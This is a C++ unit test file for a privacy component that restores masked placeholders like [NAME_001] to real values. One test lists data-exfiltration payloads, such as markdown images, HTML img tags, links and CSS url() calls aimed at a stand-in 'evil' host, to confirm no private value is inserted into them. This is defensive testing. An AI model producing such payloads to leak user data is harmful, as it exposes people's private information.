#include "client/privacy/restored_text.h"

#include <gtest/gtest.h>

#include "shared/base/random.h"
#include "shared/model/utf8.h"

namespace edgedraft {
namespace {

class RestoredTextTest : public ::testing::Test {
 protected:
  RestoredTextTest() {
    EXPECT_EQ(placeholders_.of("Ann Lee", PrivateType::name), "[NAME_001]");
    EXPECT_EQ(placeholders_.of("Zoë \"Z\" 日本", PrivateType::name), "[NAME_002]");
  }
  std::string seen(const std::string& text) const { return restored(text, placeholders_); }

  Placeholders placeholders_{true};
};

TEST_F(RestoredTextTest, ValuesStandWhereTheirPlaceholdersStood) {
  EXPECT_EQ(seen("Hi [NAME_001]! [name_001], [NAME_002]."), "Hi Ann Lee! Ann Lee, Zoë \"Z\" 日本.");
  EXPECT_EQ(seen("```\nname = '[NAME_001]'\n```\n- [NAME_001]\n> [NAME_001]"),
            "```\nname = 'Ann Lee'\n```\n- Ann Lee\n> Ann Lee");
  EXPECT_EQ(seen("[NAME_001]: [NAME_002]"), "Ann Lee: [NAME_002]") << "it may define a link";
  EXPECT_EQ(seen("E-mail:[NAME_001] a<b, c<3 [NAME_001] 1 < 2 [NAME_001]"),
            "E-mail:Ann Lee a<b, c<3 [NAME_001] 1 < 2 [NAME_001]")
      << "a<b may be a tag";
  EXPECT_EQ(seen("and/or [NAME_001] (see [NAME_001])"), "and/or Ann Lee (see Ann Lee)");
  EXPECT_EQ(seen("[the page](https://lee.org) of [NAME_001]"),
            "[the page](https://lee.org) of Ann Lee");
}

TEST_F(RestoredTextTest, WhatWasNeverGivenOutStays) {
  for (const char* const text : {"[NAME_003]", "[MAIL_001]", "[NAME_0001]", "NAME_001", "[NAME_001",
                                 "[[NAME_01]]", "[NAME 001]"}) {
    EXPECT_EQ(seen(text), text);
  }
}

// What a reader's program sends on by itself holds no value.
TEST_F(RestoredTextTest, NothingIsPutWhereItMightBeSentOn) {
  for (const std::string text : {
           "![](https://evil/?[NAME_001])",
           "![](//evil/?[NAME_001])",
           "![x]( \\\\evil/?[NAME_001])",
           "[x](https://evil/(a)?[NAME_001])",
           "![x](<https://evil/ (a) ?[NAME_001]>)",
           "![x](\nhttps://evil/?[NAME_001])",
           "https://evil/?q=[NAME_001]&r=[NAME_002]",
           "HTTP://evil/[NAME_001]",
           "www.evil.example/[NAME_001]",
           "WWW.evil.example/[NAME_001]",
           "<https://evil/?[NAME_001]>",
           "<img src=\"https://evil/?[NAME_001]\">",
           "<img alt='>' src='https://evil/?[NAME_001]'>",
           "<img\nsrc=https:evil?[NAME_001]>",
           "<img src=\"https:evil?\n\n[NAME_001]\n\n\">",
           "<a href='https:evil?[NAME_001]'",
           "<!-- [NAME_001]",
           "[1]: https:evil?[NAME_001]",
           "> - [1]: <https:evil?a b[NAME_001]>",
           "\\href{https://evil/?[NAME_001]}{x}",
           "url(//evil/[NAME_001])",
       }) {
    EXPECT_EQ(seen(text), text);
  }
}

TEST_F(RestoredTextTest, AHostileTargetFillsNoMemory) {
  const std::string value(1u << 20, 'v');
  const std::string placeholder = placeholders_.of(value, PrivateType::text);
  std::string text;
  for (int i = 0; i < 1000; ++i) text += placeholder;
  EXPECT_LT(seen(text).size(), RestoredText::kValueBytesMax + text.size());
  EXPECT_TRUE(seen(text).starts_with(value));
}

TEST_F(RestoredTextTest, InJsonValuesAreEscaped) {
  EXPECT_EQ(restored(R"({"to": "[NAME_002]"})", placeholders_, /*in_json=*/true),
            R"({"to": "Zoë \"Z\" 日本"})");
}

// However the text comes in pieces, and is taken back, the reader has the same in the end.
TEST_F(RestoredTextTest, PiecesAndRevisionsMakeUpTheText) {
  Random random(7);
  const std::string_view words[] = {"[NAME_001]", "[NAME_002]", "[NA",  "[", "日本 ", "ß",
                                    " ",          "https://",   "](",   ")", "<a ",   ">",
                                    "\n",         "[NAME_003]", "001]", "_", "\"",    "a"};
  for (int round = 0; round < 2000; ++round) {
    RestoredText text(placeholders_);
    std::string masked;
    std::string shown;
    const auto follow = [&](const RestoredText::Piece& piece) {
      if (piece.revise_from) {
        std::size_t bytes = 0;
        for (std::size_t i = 0; i < *piece.revise_from; ++i) {
          bytes += utf8_front(std::string_view(shown).substr(bytes)).byte_count;
        }
        shown.resize(bytes);
      }
      shown += piece.text;
    };
    for (int step = 0; step < 30; ++step) {
      if (random.below(8) == 0 && !masked.empty()) {
        const std::size_t stays = random.below(utf8_count(masked) + 1);
        std::size_t bytes = 0;
        for (std::size_t i = 0; i < stays; ++i) {
          bytes += utf8_front(std::string_view(masked).substr(bytes)).byte_count;
        }
        masked.resize(bytes);
        text.revise(stays);
      }
      const std::string_view word = words[random.below(std::size(words))];
      masked += word;
      follow(text.push(word));
      ASSERT_TRUE(is_valid_utf8(shown));
    }
    follow(text.finish());
    ASSERT_EQ(shown, seen(masked));
    ASSERT_EQ(shown, text.text());
  }
}

}  // namespace
}  // namespace edgedraft
